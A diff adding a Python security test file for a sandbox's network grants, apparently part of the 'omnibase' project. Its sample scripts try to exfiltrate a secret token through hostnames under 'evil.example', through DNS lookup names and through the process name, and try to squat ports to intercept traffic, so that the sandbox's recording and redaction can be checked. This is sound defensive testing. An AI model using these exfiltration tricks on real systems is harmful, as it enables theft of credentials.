@@ -1,0 +1,171 @@
+"""Attacks on the network grants: on the agent, on the record, and on what is said of secrets."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator, Sequence
+
+import pytest
+
+import omnibase
+from omnibase import EventBus, ExecutionContext, RunResult
+from omnibase.core import events
+from omnibase.core.sandbox import bundle
+from omnibase.core.sandbox.egress import resolver
+from omnibase.errors import SandboxError
+from tests.helpers.egress import echo, server
+from tests.security.harness import Outcome, SandboxFixture, observed
+
+WILD = "*.wild.example"
+
+
+@pytest.fixture(autouse=True)
+def asked(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    """What the host was asked for; each name stands for its loopback."""
+    names: list[str] = []
+
+    def look_up(name: str) -> Sequence[str]:
+        names.append(name)
+        return ["127.0.0.1"]
+
+    monkeypatch.setattr(resolver, "look_up", look_up)
+    return names
+
+
+@pytest.fixture
+def port() -> Iterator[int]:
+    """A server on the host's loopback that sends back what it gets."""
+    with server(echo) as number:
+        yield number
+
+
+def grants(port: int, *hosts: str) -> list[str]:
+    """The literal grant is what lets a name of the test stand for the loopback."""
+    return [f"NETWORK_CONNECT:{host}:{port}" for host in (*hosts, "127.0.0.1")]
+
+
+def with_secret(value: str, source: str, *caps: str) -> Outcome:
+    def run(bus: EventBus) -> RunResult:
+        return omnibase.run(
+            source.encode(), capabilities=["SECRET_ACCESS:TOKEN", *caps],
+            secrets={"TOKEN": value}, context=ExecutionContext(on_violation="record"), bus=bus,
+        )  # fmt: skip
+
+    return observed(run)
+
+
+class TestTheRecord:
+    def test_each_name_that_the_host_is_asked_for_is_on_it(
+        self, sandbox: SandboxFixture, asked: list[str], port: int
+    ) -> None:
+        """Under a wildcard a name can carry something out, even if nothing is ever sent."""
+        source = b"""
+import os, select, socket, struct, sys
+for number in range(8):
+    client = socket.socket()
+    client.setblocking(False)
+    try: client.connect((socket.gethostbyname(f"data-{number}.wild.example"), int(sys.argv[1])))
+    except BlockingIOError: pass
+    select.select([], [client], [], 5)
+    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    client.close()
+last = socket.create_connection(("data-8.wild.example", int(sys.argv[1])))
+os._exit(0)
+"""
+        outcome = sandbox.source(source, grants(port, WILD), args=[str(port)])
+
+        outcome.assert_clean()
+        made = outcome.reported(events.EgressOpened)
+        told = {event.target for event in made + outcome.reported(events.EgressFailed)}
+        assert {f"{name}:{port}" for name in asked} <= told
+        assert told == {f"data-{number}.wild.example:{port}" for number in range(9)}
+
+    @pytest.mark.parametrize("host", ["evil.example", "wild.example"])
+    def test_a_secret_in_a_host_is_not_told(self, port: int, host: str) -> None:
+        value = "AbCdEf-GhIjKl-77"
+        outcome = with_secret(
+            value,
+            "import socket\nv = open('/run/secrets/TOKEN').read()\n"
+            f"try: socket.create_connection((v + '.{host}', {port}))\n"
+            "except OSError: pass\n"
+            f"try: socket.create_connection(('x' * 250 + v, {port}))\n"
+            "except (OSError, UnicodeError): pass\n",
+            *grants(port, WILD),
+        )  # fmt: skip
+
+        said = " ".join(event.to_json() for event in outcome.events) + repr(outcome.result)
+        assert f"***TOKEN***.{host}" in said
+        assert value[:8] not in said
+        assert value[:8].lower() not in said
+
+    def test_the_name_of_a_process_is_cut_and_so_is_a_value_in_it(self) -> None:
+        value = "AbCdEf-GhIjKl-7-and-more"
+        outcome = with_secret(
+            value,
+            "import ctypes\nv = open('/run/secrets/TOKEN').read()\n"
+            "ctypes.CDLL(None).prctl(15, v.encode(), 0, 0, 0)\n"
+            "try: open('/data/x')\nexcept OSError: pass\n",
+        )
+
+        found = outcome.assert_violation("FILE_READ:/data/x")
+        assert found.process_name == "***TOKEN***"
+        said = " ".join(event.to_json() for event in outcome.events)
+        assert value[:8] not in said
+
+
+class TestTheAgent:
+    def test_an_address_that_the_script_took_first(
+        self, sandbox: SandboxFixture, port: int
+    ) -> None:
+        """The next name under a wildcard would be given it, and be listened for there."""
+        source = b"""
+import socket, sys
+port = int(sys.argv[1])
+own = socket.create_server(("198.18.1.0", port))
+try: socket.create_connection(("a.wild.example", port))
+except OSError as error: print(type(error).__name__)
+own.close()
+client = socket.create_connection(("a.wild.example", port))
+client.sendall(b"hello")
+print(client.recv(5).decode())
+"""
+        outcome = sandbox.source(source, grants(port, WILD), args=[str(port)])
+
+        outcome.assert_clean()
+        assert outcome.stdout.split() == ["gaierror", "hello"]
+
+    def test_a_listener_beside_it_takes_nothing(self, sandbox: SandboxFixture, port: int) -> None:
+        source = b"""
+import socket, sys
+port = int(sys.argv[1])
+own = []
+for address in ("198.18.0.1", "127.0.0.1", "0.0.0.0", "::"):
+    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
+        taken = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
+        taken.setsockopt(socket.SOL_SOCKET, option, 1)
+        try:
+            taken.bind((address, port))
+            taken.listen()
+            own.append(taken)
+        except OSError: pass
+for host in ("exact.example", "127.0.0.1"):
+    client = socket.create_connection((host, port))
+    client.sendall(b"hello")
+    print(client.recv(5).decode())
+"""
+        outcome = sandbox.source(source, grants(port, "exact.example"), args=[str(port)])
+
+        outcome.assert_clean()
+        assert outcome.stdout.split() == ["hello", "hello"]
+
+    def test_its_failure_is_not_an_exit_of_the_script(
+        self, sandbox: SandboxFixture, port: int, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        rows = ["", WILD, "70000", "70000"]
+        monkeypatch.setattr(bundle, "agent_rows", lambda _grants: rows)
+        outcome = sandbox.source(
+            b"import socket, time\nsocket.gethostbyname('a.wild.example')\ntime.sleep(20)",
+            grants(port, WILD),
+        )
+        assert isinstance(outcome.error, SandboxError)
+        assert "agent failed" in str(outcome.error)
+        assert b"OverflowError" in outcome.finished.stderr
